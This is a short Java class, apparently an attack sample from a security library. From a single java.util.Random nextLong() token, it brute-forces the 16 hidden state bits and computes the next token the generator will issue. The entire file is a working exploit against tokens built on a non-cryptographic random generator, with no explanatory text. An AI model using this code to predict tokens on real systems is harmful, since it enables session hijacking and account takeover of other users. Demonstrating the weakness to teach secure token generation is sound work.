package io.github.secureblocks.samples.attack;

import java.util.Optional;
import java.util.regex.Pattern;

/** The state of a {@code java.util.Random}, from one {@code nextLong()}: 65,536 candidates. */
final class RandomState {
    private static final Pattern HEX = Pattern.compile("[0-9a-f]{1,16}");
    private static final long MASK = (1L << 48) - 1;

    private RandomState() {}

    /** The token that follows, if the known one is a number of such a generator. */
    static Optional<String> tokenAfter(String token) {
        if (!HEX.matcher(token).matches()) {
            return Optional.empty();
        }
        long known = Long.parseUnsignedLong(token, 16);
        int second = (int) known;
        int first = (int) ((known - second) >> 32);
        for (int low = 0; low < 1 << 16; low++) {
            long state = step((((long) first << 16) | low) & MASK);
            if (bits(state) == second) {
                long third = step(state);
                long next = ((long) bits(third) << 32) + bits(step(third));
                return Optional.of(Long.toHexString(next));
            }
        }
        return Optional.empty();
    }

    private static long step(long state) {
        return (state * 0x5DEECE66DL + 0xBL) & MASK;
    }

    private static int bits(long state) {
        return (int) (state >>> 16);
    }
}
